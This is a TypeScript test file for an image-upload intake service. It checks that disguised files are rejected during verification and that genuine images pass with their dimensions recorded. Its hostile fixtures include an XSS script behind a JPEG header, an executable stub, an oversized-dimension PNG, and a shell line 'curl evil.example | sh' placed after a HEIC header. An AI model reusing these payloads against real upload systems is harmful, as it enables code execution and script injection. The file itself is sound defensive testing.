// Verification decodes the bytes (issue 13, part 1): every upload that magic bytes alone let
// through as an image now ends in verification_failed with a reason, and real images of each
// decodable type reach awaiting_review with their dimensions on the row.
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jpegMagicThenRandom, pngDeclaring, realJpeg, realPng, realWebp } from '../../bench/lib/images';
import { apiKeyActor, type TestCredential } from '../helpers/auth';
import { stageAndVerify } from '../helpers/intake';
import { startTestStack, type TestStack } from '../helpers/stack';

let stack: TestStack;
let partner: TestCredential;
beforeAll(async () => {
  stack = await startTestStack();
  partner = await apiKeyActor(stack, { permissions: ['portfolio_intake:stage'] });
});
afterAll(async () => stack?.stop());

const JPEG_MAGIC = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
const verify = (bytes: Buffer, mimeType: string) => stageAndVerify(stack, partner, bytes, { mimeType });

describe('verification decodes what it is given', () => {
  // Each of these was verified, approved and promoted when only magic bytes, size and hash were checked.
  const hostile: [string, Buffer, string][] = [
    ['a JPEG header followed by <html><script>', Buffer.concat([JPEG_MAGIC, Buffer.from('<html><script>alert(1)</script></html>')]), 'image/jpeg'],
    ['a 12-byte file that is only a WebP header', Buffer.from('RIFF\x04\x00\x00\x00WEBP', 'latin1'), 'image/webp'],
    ['a JPEG header followed by MZ', Buffer.concat([JPEG_MAGIC, Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(600)]), 'image/jpeg'],
    ['a HEIC ftyp header followed by a script', Buffer.concat([Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'), Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')]), 'image/heic'],
    ['a PNG declaring 2147483647 x 2147483647 pixels', pngDeclaring(2147483647, 2147483647), 'image/png'],
  ];
  it.each(hostile)('%s ends in verification_failed', async (_name, bytes, mimeType) => {
    const { done } = await verify(bytes, mimeType);
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', reviewStatus: 'not_reviewed' });
    expect(done.body.data.failureReason).toMatch(/^(undecodable|magic_bytes_mismatch|dimensions_exceeded|type_mismatch)$/);
  });

  it('a 3-byte ff d8 ff is refused', async () => {
    const { done } = await verify(Buffer.from([0xff, 0xd8, 0xff]), 'image/jpeg');
    expect(done.body.data.intakeStatus).toBe('verification_failed');
  });

  it('JPEG magic bytes followed by random bytes: undecodable', async () => {
    const { done } = await verify(jpegMagicThenRandom(20_000), 'image/jpeg');
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', failureReason: 'undecodable' });
  });

  it('a PNG whose header claims 100000 x 100000 pixels: dimensions_exceeded, refused from the header', async () => {
    const { done } = await verify(pngDeclaring(100_000, 100_000), 'image/png');
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', failureReason: 'dimensions_exceeded' });
  });

  it('a real PNG declared as image/jpeg: type_mismatch', async () => {
    const { done } = await verify(await realPng(40, 30), 'image/jpeg');
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', failureReason: 'type_mismatch' });
  });

  it('a valid JPEG, PNG and WebP each reach awaiting_review with format and dimensions on the row', async () => {
    const exif = await sharp({ create: { width: 120, height: 80, channels: 3, background: '#246' } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const cases: [Buffer, string, Record<string, unknown>][] = [
      [realJpeg(4096), 'image/jpeg', { imageFormat: 'jpeg', imageFrames: 1 }],
      [exif, 'image/jpeg', { imageFormat: 'jpeg', imageWidth: 120, imageHeight: 80, imageOrientation: 6 }],
      [await realPng(33, 21), 'image/png', { imageFormat: 'png', imageWidth: 33, imageHeight: 21, imageFrames: 1 }],
      [await realWebp(50, 40), 'image/webp', { imageFormat: 'webp', imageWidth: 50, imageHeight: 40, imageFrames: 1 }],
    ];
    for (const [bytes, mimeType, facts] of cases) {
      const { id, done } = await verify(bytes, mimeType);
      expect(done.body.data.intakeStatus, mimeType).toBe('awaiting_review');
      const [row] = await stack.sql`
        select image_format, image_width, image_height, image_frames, image_orientation from submissions where submission_id = ${id}`;
      expect(row).toMatchObject(facts);
    }
  });
});
